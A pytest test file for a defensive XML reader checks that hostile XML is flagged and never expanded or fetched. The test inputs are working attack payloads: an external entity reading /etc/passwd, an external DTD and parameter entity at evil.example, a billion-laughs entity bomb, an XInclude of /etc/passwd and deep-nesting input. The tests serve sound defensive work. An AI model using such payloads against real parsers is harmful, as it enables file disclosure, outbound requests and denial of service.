"""XML is read as it is written: nothing is expanded, followed or filled in."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from garrison.artifacts.wire.xml_events import End, Event, Start, Text, events, local, root
from garrison.core.errors import ExaminationError, LimitExceeded, Malformed
from garrison.core.facts import Anomaly, Reference
from garrison.core.limits import Limits
from garrison.sources.reader import BytesReader
from garrison.sources.source import Context
from tests.support import findings_of, worst


def read(document: "str | bytes") -> tuple[list[Event], Exception | None]:
    data = document.encode() if isinstance(document, str) else document
    found: list[Event] = []
    try:
        for event in events(BytesReader(data), Context(Limits(), len(data))):
            found.append(event)
    except ExaminationError as error:
        return found, error
    return found, None


def test_elements_and_text_come_in_order_with_their_lines() -> None:
    found, error = read("<a x='1'>\n <b>one</b>\n</a>")
    assert error is None
    assert [(type(e).__name__, e.line) for e in found if isinstance(e, Start | End)] == [
        ("Start", 1),
        ("Start", 2),
        ("End", 2),
        ("End", 3),
    ]
    assert found[0] == Start("a", {"x": "1"}, 1, 1)
    assert "".join(e.text for e in found if isinstance(e, Text)).split() == ["one"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_encodings_that_loaders_take(encoding: str) -> None:
    data = "<net name='é'/>".encode(encoding)
    found, error = read(data)
    assert error is None and isinstance(found[0], Start) and found[0].attributes == {"name": "é"}
    assert root(BytesReader(data)) == "net"


def test_an_external_entity_is_named_and_not_read() -> None:
    document = '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net>&x;</net>'
    found, error = read(document)
    assert isinstance(error, Malformed)
    assert Reference(target="file:///etc/passwd", role="entity", detail="the entity x", place="line 1") in found
    assert {e.what for e in found if isinstance(e, Anomaly)} == {"xml-external-entity"}
    assert not any(isinstance(e, Text) for e in found)
    assert root(BytesReader(document.encode())) == "net"


def test_parameter_entities_and_external_document_types() -> None:
    found, _ = read(
        '<!DOCTYPE net SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "http://e.example/"> %p;]><net/>'
    )
    assert [e.target for e in found if isinstance(e, Reference)] == ["http://evil.example/x.dtd", "http://e.example/"]
    honest, error = read('<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd"><PMML/>')
    assert error is None and isinstance(honest[0], Reference) and honest[0].role == "schema"


def test_a_billion_laughs_is_a_finding_and_no_work() -> None:
    lines = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)]
    document = f"<?xml version='1.0'?><!DOCTYPE net [{''.join(lines)}]><net a='&a11;'>&a11;</net>"
    started = time.monotonic()
    found = findings_of(document.encode(), "model.xml")
    assert time.monotonic() - started < 10
    assert "xml-nested-entity" in {item.rule for item in found} and worst(found) == "high"


def test_long_attributes_after_an_entity_are_not_expanded() -> None:
    document = f"<!DOCTYPE net [<!ENTITY a '{'x' * 1000}'>]><net a='{'&a;' * 100_000}'/>"
    found, error = read(document)
    assert isinstance(error, Malformed) and [e.what for e in found if isinstance(e, Anomaly)] == ["xml-entity"]


def test_default_attributes_are_not_filled_in() -> None:
    found, error = read(f"<!DOCTYPE n [<!ATTLIST n a CDATA '{'x' * 5000}'>]><n/>")
    assert isinstance(error, Malformed) and len(found) == 1


def test_inclusions_and_stylesheets_are_references() -> None:
    found, error = read(
        '<?xml-stylesheet href="http://e.example/s.xsl"?><n xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="/etc/passwd" parse="text"/></n>'
    )
    assert error is None
    assert [(e.role, e.target) for e in found if isinstance(e, Reference)] == [
        ("stylesheet", "http://e.example/s.xsl"),
        ("inclusion", "/etc/passwd"),
    ]


def test_deep_nesting_ends_at_the_limit() -> None:
    _, error = read("<a>" * 200_000)
    assert isinstance(error, LimitExceeded)


def test_a_token_of_many_megabytes_takes_linear_time() -> None:
    started = time.monotonic()
    found, error = read(b"<n>" + b"<!--" + b"-x" * (8 << 20) + b"--></n>")
    assert error is None and len(found) == 2
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("text", ["", "plain", "<", "<a", "<a><b></a>", "<a>&nbsp;</a>", "<?xml encoding='x-no'?><a/>"])
def test_what_is_not_well_formed_is_malformed(text: str) -> None:
    assert isinstance(read(text)[1], Malformed)


@given(st.binary(max_size=200), st.sampled_from([b"", b"<a>", b"<!DOCTYPE a [", b"<?xml version='1.0'?>"]))
def test_no_bytes_raise_anything_else(data: bytes, prefix: bytes) -> None:
    read(prefix + data)
    root(BytesReader(prefix + data))


def test_names_without_their_prefix() -> None:
    assert local("pmml:PMML") == "PMML" and local("PMML") == "PMML"
    assert root(BytesReader(b"<!-- c --><p:PMML xmlns:p='x'>")) == "PMML"
    assert root(BytesReader(b"text <a>")) == ""


def test_elements_that_nobody_asked_for_are_left_out_but_counted() -> None:
    data = b"<a><dim><b/></dim></a>"
    found = list(events(BytesReader(data), Context(Limits(), len(data)), skip=frozenset({"dim"})))
    assert [(e.name, e.depth) for e in found if isinstance(e, Start | End)] == [("a", 1), ("b", 3), ("b", 3), ("a", 1)]
